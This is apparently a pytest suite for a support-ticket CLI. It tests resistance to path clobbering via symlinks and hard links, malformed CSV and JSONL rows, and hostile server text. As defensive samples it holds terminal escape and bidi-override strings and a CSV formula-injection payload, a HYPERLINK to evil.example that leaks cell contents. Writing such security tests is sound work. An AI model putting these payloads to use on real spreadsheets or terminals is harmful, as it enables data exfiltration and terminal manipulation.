"""``skala-tickets`` against hostile input files, output paths and servers.

* ``bulk --results`` (or ``--journal``) pointing at a file the run reads or keeps is a
  usage error before anything is read or sent, by path, symlink or hard link;
* a row the reader cannot read is that row's ``rejected`` result, and every rerun gets
  past it; a file that cannot be read at all is a usage error before anything is sent;
* server-supplied text (issue keys, statuses, error messages, webhook events) reaches the
  terminal without escape sequences, control characters or bidi overrides, the results
  CSV neutralises cells a spreadsheet would run as formulas, and ``--json`` stays exact.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import json
import os
import queue
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from aiohttp import web

from skala_async.cli import EXIT_OK, EXIT_REFUSED, EXIT_USAGE, main, terminal_safe
from skala_async.testing import SkalaSandbox
from tests.helpers.bulk_files import write_csv
from tests.helpers.cli import creds, post_event, serve, signed_event, threaded_sandbox

SECRET = "hostile-cli-secret-0123456789abcdef"
LISTEN_SECRET = "hostile-cli-listen-secret-4c21"


@pytest.fixture
def sb() -> Iterator[SkalaSandbox]:
    with threaded_sandbox(processing_delay=0.02, client_secret=SECRET) as sandbox:
        yield sandbox


def results(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return {r["index"]: r for r in csv.DictReader(f)}


# ------------------------------------------------------------------------------ output paths


@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("input", "is the input file"),
        ("input through a symlink", "is the input file"),
        ("input through a hard link", "is the input file"),
        ("journal", "is the journal file"),
        ("journal through a symlink, before it exists", "is the journal file"),
        ("journal -wal", "is the journal wal file"),
        ("an attachment", "exists and is not a results file of this command"),
        ("a symlink loop", "Too many levels of symbolic links"),
    ],
)
def test_results_over_a_file_the_run_needs_is_a_usage_error(
    sb: SkalaSandbox,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    target: str,
    message: str,
) -> None:
    src = write_csv(tmp_path / "in.csv", sb, 3)
    journal = tmp_path / "in.csv.journal.sqlite"
    attachment = tmp_path / "receipt.pdf"
    attachment.write_bytes(b"%PDF-1.4 the only copy")
    if target in ("journal", "journal -wal"):  # an earlier run left a journal
        assert main(["bulk", str(src), *creds(sb), "--no-progress"]) == EXIT_OK
        capsys.readouterr()
        if target == "journal -wal":
            Path(f"{journal}-wal").write_bytes(b"")
    kept = {p: p.read_bytes() for p in (src, journal, attachment) if p.exists()}
    sent = sb.count("create")
    path = {
        "input": src,
        "journal": journal,
        "journal -wal": Path(f"{journal}-wal"),
        "an attachment": attachment,
    }.get(target)
    if path is None:
        path = tmp_path / "out.csv"
        if "hard link" in target:
            os.link(src, path)
        elif "loop" in target:
            path.symlink_to(path)
        else:
            path.symlink_to(journal if "journal" in target else src)
    code = main(["bulk", str(src), *creds(sb), "--no-progress", "--results", str(path)])
    err = capsys.readouterr().err
    assert code == EXIT_USAGE, err
    assert message in err
    assert sb.count("create") == sent  # nothing sent
    for p, content in kept.items():
        assert p.read_bytes() == content, p
    if target == "journal through a symlink, before it exists":
        assert not journal.exists()  # not even the journal was created


def test_journal_over_the_input_is_a_usage_error(
    sb: SkalaSandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = write_csv(tmp_path / "in.csv", sb, 2)
    before = src.read_bytes()
    link = tmp_path / "j.sqlite"
    link.symlink_to(src)
    for journal in (src, link):
        code = main(["bulk", str(src), *creds(sb), "--no-progress", "--journal", str(journal)])
        assert code == EXIT_USAGE
        assert "is the input file: the journal must be a file of its own" in (
            capsys.readouterr().err
        )
    assert src.read_bytes() == before
    assert sb.requests == []


def test_an_earlier_results_file_is_overwritten(
    sb: SkalaSandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = write_csv(tmp_path / "in.csv", sb, 2)
    for out in (tmp_path / "out.csv", tmp_path / "out.jsonl"):
        for _ in range(2):  # the second run overwrites the first one's results
            argv = ["bulk", str(src), *creds(sb), "--no-progress", "--results", str(out)]
            assert main([*argv, "--no-journal"]) == EXIT_OK
        assert len(out.read_text(encoding="utf-8").splitlines()) == (
            3 if out.suffix == ".csv" else 2
        )
    capsys.readouterr()


# ------------------------------------------------------------------------------ unreadable rows


def test_unreadable_jsonl_rows_are_rejected_one_by_one(
    sb: SkalaSandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def good(i: int) -> str:
        return json.dumps(
            {"customerId": sb.customer_id, "summary": f"S{i}", "description": "D", "reference": i}
        )

    bad = {
        "5000 digits": '{"summary": ' + "9" * 5000 + "}",
        "nested 100,000 deep": '{"summary": ' + "[" * 100_000 + "]" * 100_000 + "}",
        "not JSON": "{'summary': 'single quotes'}",
        "a number as summary": json.dumps(
            {"customerId": sb.customer_id, "summary": 42, "description": "D"}
        ),
        "an object as description": json.dumps(
            {"customerId": sb.customer_id, "summary": "S", "description": {"a": 1}}
        ),
        "a list as customer id": json.dumps(
            {"customerId": [sb.customer_id], "summary": "S", "description": "D"}
        ),
        "a boolean reference": json.dumps(
            {"customerId": sb.customer_id, "summary": "S", "description": "D", "reference": True}
        ),
        "numbers as attachments": json.dumps(
            {"customerId": sb.customer_id, "summary": "S", "description": "D", "files": [1, 2]}
        ),
        "an unknown home folder": json.dumps(
            {
                "customerId": sb.customer_id,
                "summary": "S",
                "description": "D",
                "attachments": "~no-such-user-hostile-42/a.pdf",
            }
        ),
    }
    lines = [good(0), *bad.values(), good(1)]
    src = tmp_path / "in.jsonl"
    src.write_text("\ufeff" + "\n".join(lines) + "\n", encoding="utf-8")  # a BOM, too
    for run in range(2):  # a rerun gets past every bad row again
        assert main(["--json", "bulk", str(src), *creds(sb), "--no-progress"]) == EXIT_REFUSED
        doc = json.loads(capsys.readouterr().out)
        assert doc["counts"] == {
            "created": 2,
            "rejected": len(bad),
            "uncertain": 0,
            "failed": 0,
        }
        rows = results(tmp_path / "in.jsonl.results.csv")
        assert len(rows) == len(lines)
        for index, name in enumerate(bad, 1):
            assert rows[str(index)]["outcome"] == "rejected", name
            assert f"line {index + 1}: " in rows[str(index)]["error"], name
        assert rows["0"]["outcome"] == rows[str(len(lines) - 1)]["outcome"] == "created"
        assert sorted(t.summary for t in sb.tickets.values()) == ["S0", "S1"]
        assert {r["from_journal"] for r in rows.values() if r["outcome"] == "created"} == {
            "yes" if run else ""
        }
    reasons = " | ".join(r["error"] for r in rows.values())
    # Python 3.10 says "(4300) for integer string conversion", 3.11+ "(4300 digits)".
    assert "Exceeds the limit (4300" in reasons
    assert "nested too deeply" in reasons
    assert "not JSON" in reasons
    assert "summary must be text, got a number" in reasons
    assert "description must be text, got an object" in reasons
    assert "customer_id must be text, got a list" in reasons
    assert "reference must be text or a whole number, got a boolean" in reasons
    assert "attachments must be text" in reasons


def test_unreadable_csv_rows_are_rejected_one_by_one(
    sb: SkalaSandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    limit = csv.field_size_limit()
    # A field over the csv module's limit whose text looks like more rows: read past as
    # one field, never sent as rows of their own.
    smuggled = f"\n{sb.customer_id},Smuggled,From inside a field,\n" * 3
    huge = "x" * (limit + 1) + smuggled
    src = tmp_path / "in.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["customer_id", "summary", "description", "reference"])
        w.writerow([sb.customer_id, "Before", "ok", "a"])
        w.writerow([sb.customer_id, "Huge", huge, "b"])
        w.writerow([sb.customer_id, "Card top-up", " not credited", "c", "shifted"])
        w.writerow([sb.customer_id, "Trailing empty fields", "ok", "d", "", " "])
        w.writerow([sb.customer_id, "After", "ok", "e"])
    for _ in range(2):
        assert main(["bulk", str(src), *creds(sb), "--no-progress"]) == EXIT_REFUSED
        out = capsys.readouterr().out
        assert "5 inputs: created 3 · rejected 2" in out
        rows = {
            r["reference"] or r["index"]: r
            for r in results(tmp_path / "in.csv.results.csv").values()
        }
        assert rows["1"]["outcome"] == "rejected"
        assert f"longer than the csv module's limit ({limit} characters)" in rows["1"]["error"]
        assert rows["2"]["outcome"] == "rejected"
        assert "5 fields, the header has 4" in rows["2"]["error"]
        assert sorted(t.summary for t in sb.tickets.values()) == [
            "After",
            "Before",
            "Trailing empty fields",
        ]
    assert csv.field_size_limit() == limit  # the process-wide limit is left as it was


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('{header}\n{id},Fine,ok\n{id},"Never closed,ok\n{id},Eaten,ok\n', "never closes"),
        (
            'customer_id,summary,"' + "d" * 200_000 + '"\n{id},S,D\n',
            "the header line cannot be read",
        ),
    ],
    ids=["unterminated quote", "huge header"],
)
def test_a_csv_that_cannot_be_read_is_a_usage_error_before_anything_is_sent(
    sb: SkalaSandbox,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    content: str,
    message: str,
) -> None:
    src = tmp_path / "in.csv"
    src.write_text(
        content.format(header="customer_id,summary,description", id=sb.customer_id),
        encoding="utf-8",
    )
    assert main(["bulk", str(src), *creds(sb), "--no-progress"]) == EXIT_USAGE
    assert message in capsys.readouterr().err
    assert sb.requests == []
    assert not (tmp_path / "in.csv.results.csv").exists()


# ------------------------------------------------------------------------------ server text

HOSTILE_KEY = "SUP-1\x1b]0;pwned\x07\x1b[2J\x1b[31m\u202e7\x9b1m\r\nOK\x00"
FORMULA_KEY = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
REFUSED_CUSTOMER = "00000000-0000-4000-8000-00000000dead"
UNSAFE = ("\x1b", "\x07", "\x9b", "\u202e", "\x00", "\r")


@contextlib.contextmanager
def hostile_server(issue_key: str, status: str = "CREATED") -> Iterator[str]:
    """A fake API on 127.0.0.1 whose tickets carry ``issue_key`` and ``status``, and whose
    refusals carry control characters in their messages."""

    async def token(request: web.Request) -> web.Response:
        return web.json_response({"accessToken": "tok", "expiresIn": 3600, "tokenType": "Bearer"})

    async def create(request: web.Request) -> web.Response:
        form = await request.post()
        if form.get("customerId") == REFUSED_CUSTOMER:
            return web.json_response(
                {
                    "code": 40101,
                    "type": "Unauthorized",
                    "detail": {"message": "credentials \x1b]0;title\x07revoked\x1b[2J"},
                    "status": 401,
                },
                status=401,
            )
        return web.json_response(
            {"ticketId": str(uuid.uuid4()), "status": "PENDING", "issueKey": None}, status=202
        )

    async def get(request: web.Request) -> web.Response:
        tid = request.match_info["tid"]
        if tid.startswith("00000000"):
            return web.json_response(
                {
                    "code": 40001,
                    "type": "Bad\x1b[2JRequest",
                    "detail": {
                        "message": "no such \x1b]0;title\x07thing\u202e",
                        "errors": ["\x1b[5mx"],
                    },
                    "status": 400,
                },
                status=400,
            )
        return web.json_response({"ticketId": tid, "status": status, "issueKey": issue_key})

    app = web.Application()
    app.router.add_post("/oauth2/token/", token)
    app.router.add_post("/api/v1/supportTickets/", create)
    app.router.add_get("/api/v1/supportTickets/{tid}/", get)
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    runner = web.AppRunner(app)

    async def up() -> str:
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        return f"http://127.0.0.1:{runner.addresses[0][1]}"

    try:
        yield asyncio.run_coroutine_threadsafe(up(), loop).result(10)
    finally:
        asyncio.run_coroutine_threadsafe(runner.cleanup(), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()


def hostile_creds(url: str) -> list[str]:
    return ["--base-url", url, "--client-id", "id", "--client-secret", "secret-0123456789"]


def assert_clean(text: str) -> None:
    for char in UNSAFE:
        assert char not in text, repr(text)


def test_terminal_safe_removes_sequences_controls_and_bidi() -> None:
    assert terminal_safe(HOSTILE_KEY) == "SUP-17OK"
    assert terminal_safe("tab\there") == "tab here"
    assert terminal_safe("a\nb", newlines=True) == "a\nb"
    assert terminal_safe("emoji 👩‍💻 ñ ü") == "emoji 👩‍💻 ñ ü"  # ZWJ sequences stay


def test_get_and_wait_print_server_text_safely_and_json_exactly(
    capsys: pytest.CaptureFixture[str],
) -> None:
    tid = str(uuid.uuid4())
    with hostile_server(HOSTILE_KEY, status="ARCHIVED\x1b[2J") as url:
        assert main(["get", tid, *hostile_creds(url)]) == EXIT_OK
        out, err = capsys.readouterr()
        assert out == "ARCHIVED SUP-17OK\n"
        assert main(["wait", tid, *hostile_creds(url), "--timeout", "0.5"]) != EXIT_OK
        out, err = capsys.readouterr()
        assert_clean(out + err)
        assert main(["--json", "get", tid, *hostile_creds(url)]) == EXIT_OK
        doc = json.loads(capsys.readouterr().out)
        assert doc["issue_key"] == HOSTILE_KEY  # exact
        assert doc["status"] == "ARCHIVED\x1b[2J"
        assert main(["get", "00000000-0000-4000-8000-000000000000", *hostile_creds(url)]) == (
            EXIT_REFUSED
        )
        out, err = capsys.readouterr()
        assert_clean(out + err)
        assert "no such thing" in err


def test_bulk_results_csv_neutralises_formulas_and_jsonl_stays_exact(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "in.csv"
    customer = str(uuid.uuid4())
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["customer_id", "summary", "description", "reference"])
        w.writerow([customer, "One", "D", "@SUM(1+1)"])
        w.writerow([customer, "Two", "D", "-2+3"])
    with hostile_server(FORMULA_KEY) as url:
        argv = ["bulk", str(src), *hostile_creds(url), "--no-progress", "--wait", "--no-journal"]
        assert main(argv) == EXIT_OK
        assert main([*argv, "--results", str(tmp_path / "out.jsonl")]) == EXIT_OK
    out, err = capsys.readouterr()
    assert_clean(out + err)
    with (tmp_path / "in.csv.results.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["issue_key"] for r in rows] == ["'" + FORMULA_KEY] * 2
    assert sorted(r["reference"] for r in rows) == ["'-2+3", "'@SUM(1+1)"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    exact = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert [r["issue_key"] for r in exact] == [FORMULA_KEY] * 2
    assert sorted(r["reference"] for r in exact) == ["-2+3", "@SUM(1+1)"]


def test_webhooks_listen_prints_event_text_safely(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    tid = str(uuid.uuid4())

    def drive(first: str, lines: queue.Queue[str]) -> None:
        url = first.removeprefix("Listening for webhooks on ").split(" ", 1)[0]
        assert post_event(url, signed_event(tid, "CREATED", HOSTILE_KEY), LISTEN_SECRET) == 200
        assert lines.get(timeout=5)

    code, lines = serve(
        ["webhooks", "listen", "--port", "0", "--secret", LISTEN_SECRET], monkeypatch, drive
    )
    assert code == EXIT_OK
    assert lines[1] == f"2025-03-04T05:06:07.890000Z SUPPORT_TICKET.CREATED {tid} CREATED SUP-17OK"
    assert_clean("\n".join(lines) + capsys.readouterr().err)


def test_library_warnings_reach_the_terminal_safely(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "in.csv"
    src.write_text(f"customer_id,summary,description\n{REFUSED_CUSTOMER},S,D\n", encoding="utf-8")
    with hostile_server(HOSTILE_KEY) as url:
        argv = ["bulk", str(src), *hostile_creds(url), "--no-progress", "--no-journal"]
        assert main(argv) == EXIT_REFUSED
    err = capsys.readouterr().err
    assert "skala-tickets: bulk run stopped sending: " in err  # the library's warning
    assert "credentials revoked" in err
    assert_clean(err)
